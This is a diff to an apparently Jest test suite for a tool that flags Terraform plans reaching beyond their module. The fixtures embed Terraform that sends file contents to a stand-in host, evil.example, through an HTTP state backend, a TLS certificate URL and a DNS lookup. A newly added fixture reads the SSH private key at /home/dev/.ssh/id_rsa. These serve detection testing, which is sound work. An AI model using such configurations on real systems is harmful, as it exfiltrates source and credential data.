@@ -21,6 +21,7 @@ beforeAll(async () => {
     'remote/main.tf':
       'data "terraform_remote_state" "x" {\n  backend = "http"\n  config = {\n    address = "https://evil.example/s/${base64encode(file("main.tf"))}"\n  }\n}\n',
     'tls/main.tf': 'data "tls_certificate" "c" {\n  url = "https://evil.example/${file("main.tf")}"\n}\n',
+    'hash/main.tf': 'output "h" {\n  value = filebase64sha256("/home/dev/.ssh/id_rsa")\n}\n',
     'dns/main.tf': 'data "dns_a_record_set" "d" {\n  host = "x.evil.example"\n}\n',
     'ok/main.tf':
       'resource "aws_instance" "a" {\n  user_data = file("${path.module}/init.sh")\n}\ndata "local_file" "cfg" {\n  filename = "${path.module}/config.json"\n}\n',
@@ -54,6 +55,7 @@ describe('a plan that reads or contacts beyond its module is uncertain', () => {
     ['another state over HTTP', 'remote'],
     ['a TLS endpoint', 'tls'],
     ['a DNS lookup', 'dns'],
+    ['a file hashed outside the module', 'hash'],
   ])('%s', (_n, dir) => {
     expect(run(dir, 'terraform plan').codes).toContain('dynamic-script');
   });
